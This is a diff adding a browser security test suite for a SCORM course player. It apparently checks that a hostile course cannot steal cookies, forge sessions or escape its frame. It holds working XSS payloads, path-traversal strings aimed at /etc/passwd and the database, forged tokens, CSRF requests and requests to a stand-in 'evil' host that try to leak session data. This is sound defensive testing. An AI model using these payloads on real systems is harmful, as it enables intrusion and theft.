@@ -1,0 +1,338 @@
+import { createServer, request as httpRequest } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, Frame, Page } from 'playwright-core';
+import { UnitOfWork } from '../../src/platform/database/unit-of-work';
+import { recorded, RelayWorld, setCalls } from '../relay/dispatch-in-lms';
+import { inChromium, until, watch } from '../support/browser';
+import { importCourse } from '../support/courses';
+import { makeScorm12Zip, scorm12Manifest } from '../support/make/course-packages';
+import { courseFrame } from './chromium';
+import { launchLink, look, register } from './learner';
+
+const markup = `</title><script>top.harmed=1</script><img src=x onerror="top.harmed=1">`;
+
+/** What a hostile course brings along: a script for the player's own page, service workers, a picture that runs. */
+const hostileFiles = [
+  { name: 'inject.js', data: 'window.injected = { run: function (name, value) { if (name === "opener") opener.location = value; if (name === "say") value.forEach(function (m) { var c = new MessageChannel(); top.frames[0].frames[0].postMessage(m, "*", [c.port2]); c.port1.onmessage = function (e) { injected.got.push(e.data); }; injected.ports.push(c.port1); }); }, got: [], ports: [] };' },
+  { name: 'sw.js', data: 'self.addEventListener("fetch", function (e) { e.respondWith(new Response("taken over")); });' },
+  { name: 'evil.svg', data: '<svg xmlns="http://www.w3.org/2000/svg"><script>top.harmed=1</script></svg>' },
+];
+const hostileZip = () => makeScorm12Zip({ title: markup, extraFiles: hostileFiles });
+
+/** Reads something a course must not have; answers what it got or how it was refused. */
+const tryIn = (frame: Frame | Page, code: string): Promise<string> =>
+  frame.evaluate(`Promise.resolve().then(async () => { ${code} }).then((got) => 'got ' + String(got), (error) => 'refused ' + error.name)`) as Promise<string>;
+
+/** Another site, which keeps what browsers send it. */
+class OtherSite {
+  readonly seen: { url: string; referer: string; text: string }[] = [];
+  private readonly server = createServer((request, response) => {
+    this.seen.push({ url: request.url ?? '', referer: request.headers.referer ?? '', text: JSON.stringify(request.headers) });
+    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Portal</title><h1>Portal</h1>');
+  });
+  start = () => new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
+  stop = () => {
+    this.server.closeAllConnections();
+    this.server.close();
+  };
+  url = (host: string) => `http://${host}.test:${(this.server.address() as AddressInfo).port}/`;
+}
+
+inChromium('a hostile course', () => {
+  let world: RelayWorld;
+  let tenant: { api: typeof world.courseway.api };
+  const site = new OtherSite();
+  let count = 0;
+
+  beforeAll(async () => {
+    await site.start();
+    world = await RelayWorld.start();
+    await importCourse(world.courseway, 'hostile', await hostileZip());
+    await importCourse(world.courseway, 'other', await makeScorm12Zip({ title: 'Other course', extraFiles: [{ name: 'secret.txt', data: 'secret of another course' }] }));
+    tenant = await world.courseway.otherTenant();
+    await importCourse(tenant, 'theirs', await makeScorm12Zip({ title: 'Their course', extraFiles: [{ name: 'secret.txt', data: 'secret of another tenant' }] }));
+  });
+  afterEach(() => world.tidy());
+  afterAll(async () => {
+    await world?.stop();
+    site.stop();
+  });
+
+  /** The hostile course at work, opened by a real launch link. */
+  async function launched(context?: BrowserContext): Promise<{ context: BrowserContext; page: Page; course: Frame; id: string }> {
+    const used = context ?? (await world.context());
+    const id = `evil-${++count}`;
+    await register(world.courseway, 'hostile', id);
+    const page = await used.newPage();
+    await page.goto(await launchLink(world.courseway, id));
+    return { context: used, page, course: await courseFrame(page), id };
+  }
+  /** A script of the course in the player's own page: one origin, so nothing can keep it out. */
+  async function inject(course: Frame, page: Page | Frame): Promise<void> {
+    await course.evaluate("void parent.document.head.append(Object.assign(parent.document.createElement('script'), { src: new URL('inject.js', location).href }))");
+    await until(() => page.evaluate('typeof injected'), (type) => type === 'object');
+  }
+  const tokenOf = (page: Page) => page.url().split('/play/')[1] ?? '';
+  const publicUrl = () => world.courseway.publicUrl;
+  const versionOf = async (courseId: string) => {
+    const unit = world.courseway.get(UnitOfWork);
+    const [row] = await unit.run(() => unit.query<{ v: string }>('SELECT newest_version_key AS v FROM courses WHERE id = ?', [courseId]));
+    return row?.v ?? '';
+  };
+  /** A path as it is written: no URL parser straightens it. */
+  const raw = (path: string): Promise<{ status: number; body: string }> =>
+    new Promise((resolve, reject) => {
+      const { hostname, port } = new URL(world.courseway.contentUrl);
+      httpRequest({ hostname, port, path }, (answer) => {
+        let body = '';
+        answer.on('data', (chunk) => (body += chunk)).on('end', () => resolve({ status: answer.statusCode ?? 0, body }));
+      }).on('error', reject).end();
+    });
+
+  test('has no cookie and no storage of the public origin, and can set none', async () => {
+    const context = await world.context();
+    await context.addCookies([{ name: 'console', value: 'secret', url: publicUrl(), sameSite: 'Lax' }]);
+    const home = await context.newPage();
+    await home.goto(`${publicUrl()}/`);
+    await home.evaluate("localStorage.setItem('kept', 'secret')");
+    const { course } = await launched(context);
+    expect(await course.evaluate('document.cookie + JSON.stringify(Object.entries(localStorage)) + JSON.stringify(Object.entries(sessionStorage))')).not.toContain('secret');
+    for (const domain of ['localhost', '.localhost', new URL(publicUrl()).host]) await course.evaluate(`void (document.cookie = 'planted=1; path=/; domain=${domain}')`);
+    for (const code of [`return (await fetch('${publicUrl()}/', { credentials: 'include' })).text()`, `const f = document.createElement('iframe'); f.src = '${publicUrl()}/'; document.body.append(f); await new Promise((r) => (f.onload = r)); return f.contentWindow.localStorage.getItem('kept')`, `const w = window.open('${publicUrl()}/'); await new Promise((r) => setTimeout(r, 500)); return w.document.cookie`])
+      expect(await tryIn(course, code)).toMatch(/^refused/);
+    expect(await context.cookies(publicUrl())).toMatchObject([{ name: 'console', value: 'secret' }]);
+    expect(await home.evaluate('JSON.stringify(Object.entries(localStorage))')).toBe('[["kept","secret"]]');
+  });
+
+  test('cannot use what the browser knows of an administrator: the API lets no other site in', async () => {
+    const { applicationId, secret } = world.courseway;
+    const context = await world.context({ extraHTTPHeaders: { authorization: `Basic ${Buffer.from(`${applicationId}:${secret}`).toString('base64')}` } }); // as if it had been asked for the password before
+    const home = await context.newPage();
+    expect((await home.goto(`${publicUrl()}/api/v2/courses`))?.status()).toBe(200);
+    const { course, page } = await launched(context);
+    const api = `${publicUrl()}/api/v2`;
+    const before = await (await world.courseway.api('/courses')).text();
+    expect(await tryIn(course, `return (await fetch('${api}/courses', { credentials: 'include' })).text()`)).toMatch(/^refused/);
+    expect(await tryIn(course, `return (await fetch('${api}/courses/other', { method: 'DELETE', credentials: 'include' })).status`)).toMatch(/^refused/);
+    const answers: number[] = [];
+    context.on('response', (response) => {
+      if (response.request().method() === 'POST' && response.url().startsWith(api)) answers.push(response.status());
+    });
+    const target = `${api}/courses/importJobs?courseId=planted`;
+    await course.evaluate(`(async () => {
+      for (const type of ['text/plain', 'application/x-www-form-urlencoded']) await fetch('${target}', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body: 'url=${encodeURIComponent(site.url('evil'))}' }).catch(() => 0);
+      navigator.sendBeacon('${target}', new URLSearchParams({ url: '${site.url('evil')}' }));
+      for (const target of ['hidden', '_blank', '_top']) {
+        const form = Object.assign(document.createElement('form'), { method: 'post', action: '${target}', target });
+        form.innerHTML = '<input name=url value="${site.url('evil')}"><iframe name=hidden></iframe>';
+        document.body.append(form); form.submit();
+        await new Promise((r) => setTimeout(r, 300));
+      }
+    })()`).catch(() => undefined); // the last one leads the page away
+    await until(() => answers.length, (all) => all >= 5);
+    expect(answers.filter((status) => status < 400)).toEqual([]);
+    expect(page.isClosed()).toBe(false);
+    expect(await (await world.courseway.api('/courses')).text()).toBe(before);
+    const unit = world.courseway.get(UnitOfWork);
+    expect(await unit.run(() => unit.query("SELECT job_id FROM import_jobs WHERE course_id = 'planted'"))).toEqual([]);
+  });
+
+  test('frames neither the API nor the mailbox', async () => {
+    const { applicationId, secret } = world.courseway;
+    const context = await world.context({ httpCredentials: { username: applicationId, password: secret, origin: publicUrl() } });
+    const { course, page } = await launched(context);
+    for (const path of ['/api/v2/courses', '/api/v2/ping', '/dev/mailbox', '/dev/mailbox/messages', '/livez', '/no-such-page']) {
+      await course.evaluate(`new Promise((resolve) => { const f = Object.assign(document.createElement('iframe'), { src: '${publicUrl()}${path}', name: 'framed', onload: resolve }); document.querySelectorAll('[name=framed]').forEach((old) => old.remove()); document.body.append(f); })`);
+      const framed = await until(() => page.frames().find((frame) => frame.name() === 'framed')?.url(), (url) => url?.startsWith('chrome-error:') || url?.startsWith('http'));
+      expect([path, framed]).toEqual([path, expect.stringMatching(/^chrome-error:/)]);
+    }
+  });
+
+  test('reaches neither the page that opened it nor the one that frames it', async () => {
+    const context = await world.context();
+    const portal = await context.newPage();
+    await portal.goto(site.url('portal'));
+    await register(world.courseway, 'hostile', 'evil-opened');
+    const link = await launchLink(world.courseway, 'evil-opened');
+    const [popup] = await Promise.all([portal.waitForEvent('popup'), portal.evaluate(`void window.open('${link}', 'course')`)]);
+    const course = await courseFrame(popup);
+    await inject(course, popup);
+    for (const code of ['return parent.opener.document.title', `parent.opener.location = '${site.url('astray')}'`, `parent.opener.location.replace('${site.url('astray')}')`, `window.opener.location = '${site.url('astray')}'`]) expect(await tryIn(course, code)).toMatch(/^refused/);
+    expect(await tryIn(popup, `injected.run('opener', '${site.url('astray')}')`)).toMatch(/^refused/);
+    const framing = await context.newPage();
+    await framing.goto(site.url('portal'));
+    await register(world.courseway, 'hostile', 'evil-framed');
+    await framing.evaluate(`document.body.innerHTML = '<iframe src="${await launchLink(world.courseway, 'evil-framed')}" width=900 height=600></iframe>'`);
+    const player = await until(() => framing.frames().find((frame) => frame.url().includes('/play/')) as Frame);
+    const inner = await until(() => player.childFrames().find((frame) => frame.url().includes('/content/')) as Frame);
+    await inner.waitForLoadState('load');
+    for (const code of ['return top.document.title', 'return top.localStorage.length', 'return parent.parent.document.title']) expect(await tryIn(inner, code)).toMatch(/^refused/);
+    expect([portal.url(), framing.url()]).toEqual([site.url('portal'), site.url('portal')]);
+    expect(site.seen.some(({ text }) => text.includes('astray.test'))).toBe(false);
+  });
+
+  test('does not keep a window from closing behind it', async () => {
+    const context = await world.context();
+    const portal = await context.newPage();
+    await portal.goto(site.url('portal'));
+    await register(world.courseway, 'hostile', 'closes');
+    const answer = await world.courseway.api('/registrations/closes/launchLink', { method: 'POST', body: { redirectOnExitUrl: 'closer' } });
+    const { launchLink: link } = (await answer.json()) as { launchLink: string };
+    const [popup] = await Promise.all([portal.waitForEvent('popup'), portal.evaluate(`void (window.handle = window.open('${link}', 'course'))`)]);
+    await courseFrame(popup);
+    expect(await portal.evaluate('handle.closed')).toBe(false);
+    await popup.getByRole('button', { name: 'Exit' }).click();
+    await until(() => popup.isClosed());
+    expect(await portal.evaluate('handle.closed')).toBe(true);
+  });
+
+  test('registers no service worker', async () => {
+    const { course, page, context } = await launched();
+    const asset = await page.evaluate("document.querySelector('script[src]').src");
+    const scripts = ['sw.js', asset, "data:text/javascript,self.onfetch=()=>0", "URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))", `/play/${tokenOf(page)}`];
+    for (const script of scripts)
+      for (const scope of [undefined, '/', '/play/', '/content/', '/player/', './']) {
+        const address = String(script).startsWith('URL.') ? script : JSON.stringify(script);
+        expect([script, scope, await tryIn(course, `return (await navigator.serviceWorker.register(${address}${scope ? `, { scope: '${scope}' }` : ''})).scope`)]).toEqual([script, scope, expect.stringMatching(/^refused/)]);
+      }
+    for (const type of ['classic', 'module']) expect(await tryIn(course, `return (await navigator.serviceWorker.register('sw.js', { type: '${type}' })).scope`)).toMatch(/^refused/);
+    expect(await course.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')).toBe(0);
+    expect(context.serviceWorkers()).toEqual([]);
+  });
+
+  test('reads no file but those of its own course', async () => {
+    const { course } = await launched();
+    const own = new URL(course.url()).pathname.split('/')[2] ?? '';
+    const [body = '', mac = ''] = own.split('.');
+    const foreign = [await versionOf('other'), await versionOf('theirs')];
+    expect(foreign.every((key) => key.length === 26)).toBe(true);
+    const retold = (key: string) => `${Buffer.from(JSON.stringify({ ...(JSON.parse(Buffer.from(body, 'base64url').toString()) as object), v: key })).toString('base64url')}.${mac}`;
+    const unsigned = (key: string) => Buffer.from(JSON.stringify({ v: key, exp: 99_999_999_999 })).toString('base64url');
+    const paths = foreign.flatMap((key) => [
+      `/content/${retold(key)}/secret.txt`, `/content/${unsigned(key)}/secret.txt`, `/content/${unsigned(key)}./secret.txt`, `/content/${key}/secret.txt`,
+      ...['..', '%2e%2e', '%2E.', '..%2f..', '%2e%2e%2f%2e%2e', '..%5c..', '..\\..', '....//..', '%252e%252e', '..;', '%c0%ae%c0%ae'].flatMap((up) => [
+        `/content/${own}/${up}/${up}/${key}/content/secret.txt`, `/content/${own}/${up}/${key}/content/secret.txt`, `/content/${own}/${up}/courses/${key}/content/secret.txt`,
+      ]),
+    ]);
+    const files = ['index.json', 'package.zip'].flatMap((name) => [`/content/${own}/${name}`, `/content/${own}/../${name}`, `/content/${own}/%2e%2e/${name}`, `/content/${own}/..%2f${name}`, `/content/${own}/content/../../${name}`]);
+    for (const path of [...paths, ...files, `/content/${own}//etc/passwd`, `/content/${own}/%2fetc%2fpasswd`, `/content/${own}/..%2f..%2f..%2f..%2fcourseway.sqlite`, `/content/${own}/__proto__`, `/content/${own}/constructor`]) {
+      const answer = await raw(path);
+      expect([path, answer.status >= 400, answer.body.includes('secret of')]).toEqual([path, true, false]);
+      expect([path, await tryIn(course, `const answer = await fetch(${JSON.stringify(path)}); return answer.ok`)]).toEqual([path, expect.stringMatching(/^got false|^refused/)]);
+    }
+    expect((await raw(`/content/${own}/sco.js`)).status).toBe(200);
+  });
+
+  test('with the token of its own session it gets at no other one', async () => {
+    await register(world.courseway, 'other', 'victim');
+    const { course, page, id } = await launched();
+    const token = tokenOf(page);
+    const [body = '', mac = ''] = token.split('.');
+    const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>;
+    const unit = world.courseway.get(UnitOfWork);
+    const [victim] = await unit.run(() => unit.query<{ r: string; i: string; v: string }>("SELECT r.registration_key AS r, i.instance_key AS i, i.version_key AS v FROM registrations r JOIN registration_instances i ON i.registration_key = r.registration_key WHERE r.id = 'victim'"));
+    const file = new URL(course.url()).pathname.split('/')[2] ?? '';
+    const link = (await launchLink(world.courseway, 'victim')).split('/launch/')[1] ?? '';
+    const encoded = (more: object) => Buffer.from(JSON.stringify({ ...claims, ...more })).toString('base64url');
+    const tokens = [`${encoded({ ...victim })}.${mac}`, `${encoded({ r: '' })}.${mac}`, `${encoded({ m: 'preview' })}.${mac}`, `${encoded({ ...victim })}.`, encoded({ ...victim }), `${encoded({ ...victim })}.${mac}.`, file, link, `${body}.${mac.slice(0, -1)}`, `${token}%00`, `${token}/`, `${token}=`];
+    const commit = { activityId: 'ITEM-1', revision: 99, seconds: 5, cmi: { 'cmi.core.lesson_status': 'passed' }, registrationKey: victim?.r, instanceKey: victim?.i, epoch: 99, a: 'OTHERAPP' };
+    for (const forged of tokens) {
+      expect([forged, await tryIn(course, `return (await fetch('/play/${forged}')).ok`)]).toEqual([forged, 'got false']);
+      expect([forged, await tryIn(course, `return (await fetch('/play/${forged}/commits', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '${JSON.stringify(commit)}' })).ok`)]).toEqual([forged, 'got false']);
+    }
+    const own = (await course.evaluate(`fetch('/play/${token}/commits', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '${JSON.stringify(commit)}' }).then((answer) => answer.status)`)) as number;
+    expect([200, 400]).toContain(own); // about itself a course may say what it likes
+    expect(await look(world.courseway, 'victim')).toMatchObject({ registrationCompletion: 'UNKNOWN', registrationSuccess: 'UNKNOWN' });
+    expect((await look(world.courseway, id)).registrationSuccess).toBe(own === 200 ? 'PASSED' : 'UNKNOWN');
+  });
+
+  test('runs nothing by a javascript: address, a title or a picture, neither in the player nor on the public origin', async () => {
+    const manifest = scorm12Manifest({ title: markup }).replace('href="sco1.html"><', 'href="javascript:top.harmed=1"><');
+    const job = await importCourse(world.courseway, 'scripted', await makeScorm12Zip({ manifest, extraFiles: hostileFiles }));
+    const context = await world.context();
+    if (job.status === 'COMPLETE') {
+      await register(world.courseway, 'scripted', 'scripted');
+      const page = await context.newPage();
+      await page.goto(await launchLink(world.courseway, 'scripted'));
+      await page.locator('iframe.course').waitFor();
+      expect(await page.locator('iframe.course').getAttribute('src')).toMatch(/^\/content\//);
+      expect(await page.evaluate('window.harmed')).toBeUndefined();
+    }
+    await register(world.courseway, 'hostile', 'leaves');
+    const answer = await world.courseway.api('/registrations/leaves/launchLink', { method: 'POST', body: { redirectOnExitUrl: 'javascript:top.harmed=1' } });
+    const page = await context.newPage();
+    const seen = watch(context);
+    await page.goto(((await answer.json()) as { launchLink: string }).launchLink);
+    const course = await courseFrame(page);
+    expect(await page.title()).toBe(markup);
+    await course.evaluate("void (parent.location = 'javascript:top.harmed=1')");
+    await course.evaluate("void parent.document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"top.harmed=1\"><iframe srcdoc=\"<script>top.harmed=1</script>\"></iframe>')");
+    await until(() => seen.errors.join(), (errors) => errors.includes('javascript:') || errors.includes('Content Security Policy'));
+    await course.evaluate("document.body.append(Object.assign(document.createElement('img'), { src: 'evil.svg' }))");
+    expect(await page.evaluate('window.harmed')).toBeUndefined();
+    await page.getByRole('button', { name: 'Exit' }).click();
+    await page.waitForURL(/\/launch\/exit\/message/);
+    expect(page.url().startsWith(publicUrl())).toBe(true);
+    expect(await page.evaluate('window.harmed')).toBeUndefined();
+    const opened = await launched(context);
+    for (const code of [`const w = window.open('${publicUrl()}/', 'w'); await new Promise((r) => setTimeout(r, 500)); w.location = 'javascript:opener.harmed=document.domain'`, `const f = document.createElement('iframe'); f.src = '${publicUrl()}/'; document.body.append(f); await new Promise((r) => (f.onload = r)); f.contentWindow.location = 'javascript:top.harmed=document.domain'`])
+      await tryIn(opened.course, code);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(await opened.course.evaluate('[window.harmed, top.harmed].join()')).not.toContain('localhost');
+  });
+
+  test('another site learns no session from what the browser sends along', async () => {
+    const { course, page } = await launched();
+    const token = tokenOf(page);
+    site.seen.length = 0;
+    const evil = site.url('evil');
+    await course.evaluate(`(async () => {
+      for (const policy of ['', 'unsafe-url', 'no-referrer-when-downgrade']) {
+        document.body.append(Object.assign(document.createElement('img'), { referrerPolicy: policy, src: '${evil}img-' + policy }));
+        document.body.append(Object.assign(document.createElement('iframe'), { referrerPolicy: policy, src: '${evil}frame-' + policy }));
+        await fetch('${evil}fetch-' + policy, { mode: 'no-cors', referrerPolicy: policy }).catch(() => 0);
+        await parent.fetch('${evil}parent-' + policy, { mode: 'no-cors', referrerPolicy: policy }).catch(() => 0);
+        parent.document.body.append(Object.assign(parent.document.createElement('img'), { referrerPolicy: policy, src: '${evil}injected-' + policy }));
+      }
+      window.open('${evil}window');
+    })()`);
+    await until(() => site.seen.map(({ url }) => url).sort(), (urls) => ['/img-', '/img-unsafe-url', '/frame-unsafe-url', '/fetch-unsafe-url', '/window'].every((url) => urls.includes(url)));
+    expect(site.seen.filter(({ text }) => text.includes(token) || text.includes('/play/') || text.includes(publicUrl()))).toEqual([]);
+    expect(site.seen.filter(({ url }) => url === '/img-' || url === '/frame-' || url === '/window').map(({ referer }) => referer)).toEqual(Array(3).fill(`${world.courseway.contentUrl}/`));
+  });
+
+  test('in a client’s LMS it cannot speak for the player: what it forges in its name changes no result', async () => {
+    const made = await world.dispatchInLms('strict-1.2', { course: await hostileZip() });
+    const visit = await made.open({ id: 'anna' });
+    const [course, player] = [await visit.course(), await visit.player()];
+    await course.waitForSelector('#finish');
+    await recorded(made, 'anna', { lesson_status: 'incomplete' });
+    await inject(course, player);
+    const passed = { epoch: 99, rev: 9999, status: 'passed', active: true, score: { raw: '100', max: '100', min: '0' } };
+    const forged = [
+      { courseway: 'player', kind: 'changed', rev: 9999, state: passed }, { kind: 'STATE', state: passed }, { kind: 'ACK', rev: 9999, commit: true, status: 'passed' }, { kind: 'WELCOME', state: passed },
+      { kind: 'flushed', id: 1, rev: 9999 }, { kind: 'EXIT', state: passed }, { kind: 'stop', reason: 'opened-elsewhere' }, { kind: 'flush', id: 1 },
+    ];
+    await course.evaluate(`for (const message of ${JSON.stringify(forged)}) parent.postMessage(message, '*')`);
+    await course.evaluate(`for (const message of ${JSON.stringify(forged)}) top.frames[0].frames[0].postMessage(message, '*')`);
+    expect(await tryIn(course, 'return top.frames[0].frames[0].document.title')).toMatch(/^refused/);
+    await visit.press('complete');
+    await recorded(made, 'anna', { lesson_status: 'completed' });
+    await player.evaluate(`injected.run('say', ${JSON.stringify([{ courseway: 'player', v: 1, rev: 9999, state: passed }, ...forged])})`); // now the line to the shell is its own
+    await player.evaluate(`injected.ports.forEach((port) => ${JSON.stringify(forged)}.forEach((message) => port.postMessage(message)))`);
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    expect(await player.evaluate('injected.got')).toEqual([]);
+    expect(setCalls(visit.calls()).filter((call) => /=passed|Finish|score/.test(call))).toEqual([]);
+    expect((await made.rows())[0]).toMatchObject({ completion: 'COMPLETED', success: 'UNKNOWN', score: null });
+  });
+
+  test('in a client’s LMS it cannot lead the LMS’s page away by itself', async () => {
+    const leaps = `setInterval(function () { var w = window; for (var n = 0; n < 9; n++) { try { w.top.location = '${site.url('leapt')}'; } catch (e) {} try { w.top.location.replace('${site.url('leapt')}'); } catch (e) {} w = w.parent; } }, 100);`;
+    const made = await world.dispatchInLms('strict-1.2', { course: await makeScorm12Zip({ manifest: scorm12Manifest().replaceAll('sco1.html', 'leaps.html'), extraFiles: [{ name: 'leaps.html', data: `<!doctype html><title>Leaps</title><script>${leaps}</script>` }] }) });
+    const visit = await made.open({ id: 'anna' });
+    await until(() => visit.page.frames().some((frame) => frame.url().includes('/content/'))); // looking into the frame would count as a click in it
+    await until(() => visit.seen.errors.join('\n'), (errors) => errors.includes('Unsafe attempt to initiate navigation'));
+    expect(visit.page.url().startsWith(made.lms.origin)).toBe(true);
+    expect(site.seen.some(({ text }) => text.includes('leapt.test'))).toBe(false);
+  });
+});
